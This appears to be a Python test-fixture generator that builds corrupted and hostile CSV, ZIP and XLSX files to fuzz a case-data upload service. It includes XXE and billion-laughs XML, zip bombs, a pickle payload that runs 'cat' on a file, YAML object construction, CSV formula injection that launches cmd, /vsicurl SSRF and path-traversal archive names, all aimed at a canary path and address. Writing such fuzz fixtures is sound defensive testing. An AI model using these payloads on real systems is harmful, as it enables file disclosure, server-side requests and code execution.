"""Files as they arrive when something went wrong with them, or someone meant harm; by seed."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from routes.cases.forms import quick_template, template
from routes.cases.model import TABLE_NAMES
from routes.cases.reading import BUNDLED
from tests.cases.intake.files import STATISTICS, member, repacked, saved, workbook, zipped
from tests.hostile import HOSTILE

QUICK: Final = (
    "case,route,source,url,victims,date\n"
    "SYNTHETIC A,Tibú > Cúcuta > Puente Simón Bolívar > Caracas,SYNTHETIC press,,3,2020-03\n"
    'SYNTHETIC B,"Arauca > Bogotá > Panamá (air)",SYNTHETIC court,https://example.org/b,1,2021\n'
    "SYNTHETIC C,Ipiales > Quito > Guayaquil,SYNTHETIC press,,,12/05/2019\n"
)

SHEET: Final = "xl/worksheets/sheet1.xml"
NUMBERS: Final = ("NaN", "inf", "-inf", "1e308", "-1", "1,5", "1.000.000", "9" * 400, "0x10", "٣")
DATES: Final = ("2999-01-01", "31/02/2020", "00/00/0000", "2020-13", "12/31/99", "-5000-01-01", "0")


WAYS: Final = (
    *("cut", "flipped", "delimited", "mixed", "celled", "quoted", "wide", "lined", "disguised"),
    *("noise", "marked", "headed", "zip_cut", "zip_of", "bomb", "book_cut", "book_part"),
    *("book_rows", "book_entity", "book_cells", "book_parts", "book_links"),
)
"""Methods of `Maker`, each of which makes a kind of file."""


@dataclass(frozen=True)
class Made:
    """A made file.

    Parameters
    ----------
    kind : str
        How it was made; for messages.
    name : str
        What it claims to be.
    content : bytes
        The file.
    rows : int or None
        Rows below the headers, where the making leaves them countable.
    """

    kind: str
    name: str
    content: bytes
    rows: int | None = None


class Maker:
    """Makes files; the same seed makes the same ones.

    Parameters
    ----------
    canary : str
        Path of a file that nothing may open.
    address : str
        URL that nothing may ask for.
    """

    def __init__(self, canary: str, address: str) -> None:
        self.canary = canary
        self.address = address
        self.tables = _few_cases()
        self.texts = {"quick": QUICK.encode(), "statistics": STATISTICS.encode(), **self.tables}
        self.books = {
            "template": template("es"),
            "quick template": quick_template("en"),
            "tables": saved(
                workbook({name: _records(content) for name, content in self.tables.items()})
            ),
        }

    def make(self, seed: int) -> Made:
        """Return the file of a seed."""
        way: Callable[[random.Random], Made] = getattr(self, WAYS[seed % len(WAYS)])
        return way(random.Random(seed))

    def sound(self) -> Made:
        """Return the five tables as they are, in a ZIP."""
        members = [(f"{name}.csv", content) for name, content in self.tables.items()]
        rows = sum(len(_records(content)) - 1 for content in self.tables.values())
        return Made("sound", "cases.zip", zipped(members), rows)

    # Text

    def cut(self, r: random.Random) -> Made:
        """Truncated, as by a broken download."""
        name, content = self._text(r)
        return Made("cut", name, content[: r.randrange(len(content))])

    def flipped(self, r: random.Random) -> Made:
        """Bytes changed, added or lost."""
        name, content = self._text(r)
        made = bytearray(content)
        for _ in range(r.choice((1, 3, 30))):
            place = r.randrange(len(made))
            made[place : place + r.randrange(3)] = r.randbytes(r.randrange(3))
        return Made("flipped", name, bytes(made))

    def delimited(self, r: random.Random) -> Made:
        """Another delimiter, perhaps in some lines only, perhaps not in the header."""
        name, content = self._text(r)
        lines = content.decode().split("\n")
        mark = r.choice(";\t|:~")
        start, share = r.randrange(2), r.choice((1.0, 0.5, 0.05))
        changed = [
            line.replace(",", mark) if number >= start and r.random() < share else line
            for number, line in enumerate(lines)
        ]
        return Made("delimited", name, "\n".join(changed).encode())

    def mixed(self, r: random.Random) -> Made:
        """Several encodings in one file, or one that is not said."""
        name, content = self._text(r)
        codes = ("utf-8", "windows-1252", "utf-16-le", "utf-16", "utf-32", "cp850", "utf-8-sig")
        share = r.choice((0.0, 0.1, 0.5))
        first, second = r.choice(codes), r.choice(codes)
        made = b"".join(
            line.encode(second if r.random() < share else first, "replace")
            for line in content.decode().splitlines(keepends=True)
        )
        return Made("mixed", name, made)

    def celled(self, r: random.Random) -> Made:
        """Cells that hold what they should not; as many rows as before."""
        name, content = self._text(r)
        head, *rows = _records(content)
        for _ in range(r.choice((1, 5, 50))):
            row = r.choice(rows)
            row[r.randrange(len(row))] = self._value(r)
        count = sum(1 for row in rows if any(cell.strip() for cell in row))
        clean = not any("\0" in cell for row in rows for cell in row)
        return Made("celled", name, _written([head, *rows]), count if clean else None)

    def quoted(self, r: random.Random) -> Made:
        """Quotes that do not pair up, or rows quoted twice."""
        name, content = self._text(r)
        lines = content.decode().split("\n")
        for _ in range(r.choice((1, 4))):
            place = r.randrange(len(lines))
            twice = '"' + lines[place].replace('"', '""') + '"'
            lines[place] = r.choice((twice, lines[place].replace(",", ',"', 1), lines[place] + '"'))
        return Made("quoted", name, "\n".join(lines).encode())

    def wide(self, r: random.Random) -> Made:
        """16,384 columns, or one more than a row should have."""
        name, content = self._text(r)
        head, *rows = _records(content)
        width = r.choice((1, 512, 16_384))
        wide = [head + [""] * width] if r.random() < 0.5 else [head]
        rows[0] = rows[0] + [r.choice(("", "x"))] * width
        return Made("wide", name, _written([*wide, *rows]))

    def lined(self, r: random.Random) -> Made:
        """Lines doubled, lost, shuffled, blank, or a cell of a megabyte."""
        name, content = self._text(r)
        head, *rows = _records(content)
        rows += r.choices(rows, k=r.randrange(20))
        r.shuffle(rows)
        rows = rows[: r.randrange(1, len(rows) + 1)]
        if r.random() < 0.2:
            rows[0][0] = "x" * (1 << 20)
        blank = [""] * len(head)
        made = [each for row in rows for each in ([row, blank] if r.random() < 0.2 else [row])]
        return Made("lined", name, _written([head, *made]), len(rows))

    def disguised(self, r: random.Random) -> Made:
        """Something else under the name of a table, naming a file and an address."""
        path, address = self.canary, self.address
        contents = (
            f'<OGRVRTDataSource><OGRVRTLayer name="c"><SrcDataSource>{path}</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>",
            f"<VRTDataset><VRTRasterBand><SourceFilename>/vsicurl/{address}"
            "</SourceFilename></VRTRasterBand></VRTDataset>",
            '{"type":"FeatureCollection","features":[{"type":"Feature","properties":'
            f'{{"href":"{address}"}},"geometry":{{"type":"Point","coordinates":[0,0]}}}}]}}',
            f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://{path}">]><a>&b;</a>',
            f'<html><body><img src="{address}"><table><tr><td>1</td></tr></table></body></html>',
            f"{path}\n{address}\n",
            f"/vsicurl/{address},/vsizip/{path}\n1,2\n",
            f"case,route,source\n@{path},=WEBSERVICE(\"{address}\"),+cmd|' /C calc'!A0\n",
            f"%PDF-1.4\n/URI ({address})\n",
            f"cos\nsystem\n(S'cat {path}'\ntR.",
            f"!!python/object/apply:open ['{path}']\n",
            "[remote]\nurl=" + address,
        )
        name = r.choice(("cases.csv", "cases.vrt", "../../etc/cases.csv", self.canary, ""))
        return Made("disguised", name, r.choice(contents).encode())

    def noise(self, r: random.Random) -> Made:
        """No file at all."""
        starts = (b"", b"PK\x03\x04", b"PK\x05\x06", b"\xef\xbb\xbf", b"\xff\xfe", b"a,b\n")
        return Made("noise", "noise.csv", r.choice(starts) + r.randbytes(r.choice((0, 9, 4000))))

    def marked(self, r: random.Random) -> Made:
        """Byte order marks, line ends and declarations of delimiters in odd places."""
        name, content = self._text(r)
        made = content.replace(b"\n", r.choice((b"\r", b"\r\n", b"\n\n", b"\n\r")))
        start = r.choice((b"\xef\xbb\xbf", b"\xff\xfe", b"sep=;\n", b"sep=", b"\n\n", b"\xef\xbb"))
        return Made("marked", name, start + made)

    def headed(self, r: random.Random) -> Made:
        """Headers lost, doubled, exchanged or of no meaning."""
        name, content = self._text(r)
        head, *rows = _records(content)
        for _ in range(r.choice((1, 2, len(head)))):
            other = r.choice((*head, "", "x", self._value(r).replace("\0", "")))
            head[r.randrange(len(head))] = other
        return Made("headed", name, _written([head, *rows] if r.random() < 0.8 else rows))

    # ZIP

    def zip_cut(self, r: random.Random) -> Made:
        """A ZIP truncated or with bytes changed."""
        made = bytearray(zipped((f"{name}.csv", data) for name, data in self.tables.items()))
        if r.random() < 0.4:
            return Made("zip cut", "cases.zip", bytes(made[: r.randrange(len(made))]))
        tail = r.random() < 0.6  # where the directory is
        for _ in range(r.choice((1, 5, 50))):
            place = r.randrange(len(made) - 500 if tail else 0, len(made))
            made[place] = r.randrange(256)
        return Made("zip cut", "cases.zip", bytes(made))

    def zip_of(self, r: random.Random) -> Made:
        """A ZIP of changed tables, of too few or other members, under odd names."""
        members = [(f"{name}.csv", data) for name, data in self.tables.items()]
        place = r.randrange(len(members))
        odd = (
            *("../cases.csv", "/etc/cases.csv", "C:\\cases.csv", "a/../../b.csv", "é/ñ.csv"),
            *("con.csv", "x" * 400 + ".csv", "\u202ecases.csv", "cases.CSV", "cases.csv"),
            *("inner.zip", "cases.vrt", ".csv", "a\nb.csv"),
        )
        changes: tuple[Callable[[], object], ...] = (
            lambda: members.pop(place),
            lambda: members.append((r.choice(odd), members[place][1])),
            lambda: members.append((r.choice(odd), zipped(members))),
            lambda: members.__setitem__(place, (members[place][0], self.flipped(r).content)),
            lambda: members.__setitem__(place, (members[place][0], self.disguised(r).content)),
            lambda: members.__setitem__(place, (members[place][0], self.celled(r).content)),
        )
        r.choice(changes)()
        return Made("zip of", "cases.zip", zipped(members))

    def bomb(self, r: random.Random) -> Made:
        """A little file that unpacks into very much, or says so, or into very many."""
        kind = r.randrange(6)
        if kind == 0:
            return Made("bomb", "b.zip", zipped([("cases.csv", b"a," * (20 << 20))]))
        if kind == 1:
            return Made("bomb", "b.zip", zipped([(f"{n}.csv", b"1,2\n") for n in range(3000)]))
        if kind == 2:
            text = b'<?xml version="1.0"?><worksheet>' + b" " * (30 << 20)
            return Made("bomb", "b.xlsx", repacked(self.books["tables"], {SHEET: text}))
        if kind == 3:
            inner = zipped([("cases.csv", bytes(20 << 20))])
            return Made("bomb", "b.zip", zipped([("inner.zip", inner), ("cases.csv", inner)]))
        made = bytearray(zipped([("cases.csv", self.tables["cases"])]))
        place = made.rindex(b"PK\x01\x02") + 24
        size = r.choice((0, 7, 2**31, 2**32 - 2)) if kind == 4 else 2**27
        made[place : place + 4] = size.to_bytes(4, "little")
        return Made("bomb", "b.zip", bytes(made))

    # XLSX

    def book_cut(self, r: random.Random) -> Made:
        """A workbook truncated or with bytes changed."""
        made = bytearray(r.choice(list(self.books.values())))
        if r.random() < 0.4:
            return Made("book cut", "cases.xlsx", bytes(made[: r.randrange(len(made))]))
        for _ in range(r.choice((1, 5, 50))):
            made[r.randrange(len(made))] = r.randrange(256)
        return Made("book cut", "cases.xlsx", bytes(made))

    def book_part(self, r: random.Random) -> Made:
        """One part of a workbook lost, emptied, cut, or with characters changed."""
        book = r.choice(list(self.books.values()))
        with zipfile.ZipFile(io.BytesIO(book)) as archive:
            part = r.choice(archive.namelist())
            data = archive.read(part)
        changed = bytearray(data)
        for _ in range(r.choice((1, 5))):
            changed[r.randrange(len(changed))] = r.choice(b'<>/"&=A0 ')
        cut = data[: r.randrange(len(data))]
        made = r.choice((b"", cut, b"<a/>", bytes(changed), data.replace(b"sheet", b"shet")))
        return Made("book part", "cases.xlsx", repacked(book, {part: made}))

    def book_rows(self, r: random.Random) -> Made:
        """Rows and cells where none can be, and sizes that are not so."""
        book = r.choice(list(self.books.values()))
        number = r.choice(("0", "-1", "1048576", "1048577", "99999999999999", "2", "1.5", "x", ""))
        column = r.choice(("A", "XFD", "XFE", "ZZZZ", "", "1"))
        changes = (
            (rb'<row r="3"', f'<row r="{number}"'),
            (rb'<c r="B2"', f'<c r="{column}2"'),
            (rb'<dimension ref="[^"]*"', f'<dimension ref="A1:XFD{number}"'),
            (rb"<v>[^<]*</v>", f"<v>{r.choice(NUMBERS)}</v>"),
            (rb't="s"', r.choice(('t="n"', 't="d"', 't="e"', 't="b"', 't="str"', 't="zz"'))),
            (rb's="\d+"', f's="{r.choice((0, 1, 99999, -1))}"'),
        )
        pattern, text = r.choice(changes)
        return self._sheet_changed("book rows", book, pattern, text.encode(), r)

    def book_entity(self, r: random.Random) -> Made:
        """XML that defines entities: of a file, of an address, of itself."""
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
        entities = (
            f'<!ENTITY x SYSTEM "file://{self.canary}">',
            f'<!ENTITY x SYSTEM "{self.address}">',
            f'<!ENTITY % x SYSTEM "{self.address}"> %x;',
            f'<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l11;">',
            f'<!ENTITY x "{"a" * 100_000}">',
        )
        book = r.choice(list(self.books.values()))
        parts = (
            SHEET,
            "xl/workbook.xml",
            "xl/styles.xml",
            "[Content_Types].xml",
            "xl/theme/theme1.xml",
        )
        part = r.choice(parts)
        data = member(book, part).decode()
        body = re.sub(r"^<\?xml[^>]*\?>\s*", "", data)
        body = re.sub(r">([^<>]+)<", ">&x;<", body, count=3)
        made = f"<!DOCTYPE r [{r.choice(entities)}]>{body}"
        encoding = r.choice(("utf-8", "utf-16"))
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        return Made("book entity", "x.xlsx", repacked(book, {part: (head + made).encode(encoding)}))

    def book_cells(self, r: random.Random) -> Made:
        """Formulas, errors, merged and far cells, hidden sheets, odd values in a sound workbook."""
        book = workbook({name: _records(content) for name, content in self.tables.items()})
        sheet = book[r.choice(TABLE_NAMES)]
        for _ in range(r.choice((1, 10))):
            cell = sheet.cell(r.randrange(1, sheet.max_row + 1), r.randrange(1, 8))
            formula = f'=WEBSERVICE("{self.address}")&"{self.canary}"'
            value = r.choice((formula, "=1+1", "#N/A", 1e308, -0.0, True, self._value(r)))
            clean = re.sub("[\x00-\x1f]", "", value[:9000]) if isinstance(value, str) else value
            cell.value = clean
        if r.random() < 0.3:
            sheet.merge_cells(start_row=2, start_column=1, end_row=r.randrange(2, 9), end_column=3)
        if r.random() < 0.2:
            sheet.sheet_state = r.choice(("hidden", "veryHidden"))
        if r.random() < 0.2:
            sheet.cell(r.choice((1, 1_048_576)), r.choice((1, 16_384)), "far")
        if r.random() < 0.1:
            for number in range(100):
                book.create_sheet(f"more {number}").append(["x"])
        return Made("book cells", "cases.xlsx", saved(book))

    def book_parts(self, r: random.Random) -> Made:
        """Parts that do not belong: macros, other documents, very deep XML."""
        deep = b"<a>" * 100_000
        parts = {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            "xl/workbook.bin": b"x",
            "META-INF/manifest.xml": b"<a/>",
            "../../evil.xml": b"<a/>",
            "xl/theme/theme1.xml": deep,
            "xl/sharedStrings.xml": b"<sst><si>" + deep,
            "docProps/core.xml": deep,
            "xl/worksheets/sheet1.xml": b"<worksheet>" + deep,
        }
        part = r.choice(list(parts))
        book = r.choice(list(self.books.values()))
        return Made("book parts", "x.xlsx", repacked(book, {part: parts[part]}))

    def book_links(self, r: random.Random) -> Made:
        """Relations that lead out of the workbook, to a file or an address."""
        book = r.choice(list(self.books.values()))
        part = "xl/_rels/workbook.xml.rels"
        target = r.choice((f"file://{self.canary}", self.canary, self.address, f"..{self.canary}"))
        data = member(book, part).decode()
        mode = r.choice(("", ' TargetMode="External"'))
        places = [found.span() for found in re.finditer(r'Target="[^"]*"', data)]
        start, end = r.choice(places)
        made = f'{data[:start]}Target="{target}"{mode}{data[end:]}'
        return Made("book links", "x.xlsx", repacked(book, {part: made.encode()}))

    # What they have in common

    def _text(self, r: random.Random) -> tuple[str, bytes]:
        name = r.choice(list(self.texts))
        return f"{name}.csv", self.texts[name]

    def _value(self, r: random.Random) -> str:
        short = [text for text in HOSTILE if len(text) < 5000]
        kinds = (short, NUMBERS, DATES, ("", " ", "\t", "\n", "=1+1", "@x", "\0", "zz", "\ufeff"))
        return r.choice(r.choice(kinds))

    def _sheet_changed(
        self, kind: str, book: bytes, pattern: bytes, text: bytes, r: random.Random
    ) -> Made:
        sheet = member(book, SHEET)
        made = re.sub(pattern, text.replace(b"\\", b"\\\\"), sheet, count=r.choice((1, 1, 0)))
        return Made(kind, "cases.xlsx", repacked(book, {SHEET: made}))


def _few_cases() -> dict[str, bytes]:
    """Return the five tables of the first public cases, which few rows belong to."""
    whole = {name: _records((BUNDLED / f"{name}.csv").read_bytes()) for name in TABLE_NAMES}
    cases = {row[0] for row in whole["cases"][1:5]}
    made = {
        name: [rows[0], *(row for row in rows[1:] if row[0] in cases)]
        for name, rows in whole.items()
    }
    used = {cell for rows in made.values() for row in rows for cell in row}
    made["sources"] = [row for row in whole["sources"] if row[0] in used | {"source_id"}]
    return {name: _written(rows) for name, rows in made.items()}


def _records(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def _written(records: list[list[str]]) -> bytes:
    target = io.StringIO(newline="")
    csv.writer(target).writerows(records)
    return target.getvalue().encode()
